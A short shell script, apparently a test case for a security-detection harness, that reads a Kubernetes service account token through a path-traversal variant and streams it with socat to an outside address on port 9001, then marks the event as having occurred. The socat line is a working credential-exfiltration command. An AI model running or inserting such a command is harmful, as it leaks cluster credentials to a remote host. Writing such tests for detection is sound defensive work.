#!/bin/sh
. /opt/case/case.sh

socat -u OPEN:/var/run/secrets/kubernetes.io/serviceaccount/..//serviceaccount/token,rdonly TCP4:203.0.113.10:9001
took_place
